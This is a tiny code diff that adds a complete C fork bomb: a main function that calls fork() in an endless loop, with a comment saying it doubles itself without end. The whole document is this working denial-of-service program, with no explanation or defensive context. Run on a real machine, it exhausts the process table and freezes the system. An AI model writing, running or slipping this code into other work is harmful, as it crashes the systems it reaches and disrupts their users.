@@ -1,0 +1,5 @@
+/* Doubles itself without end. */
+int main(void) {
+    for (;;)
+        fork();
+}
